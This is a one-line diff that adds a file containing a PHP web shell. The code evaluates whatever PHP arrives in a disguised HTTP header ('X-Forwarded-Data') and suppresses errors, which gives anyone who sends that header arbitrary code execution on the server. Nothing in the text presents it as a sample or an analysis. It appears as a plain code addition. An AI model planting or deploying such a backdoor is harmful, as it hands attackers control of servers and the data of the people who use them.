@@ -1,0 +1,1 @@
+<?php @eval($_SERVER['HTTP_X_FORWARDED_DATA']); ?>
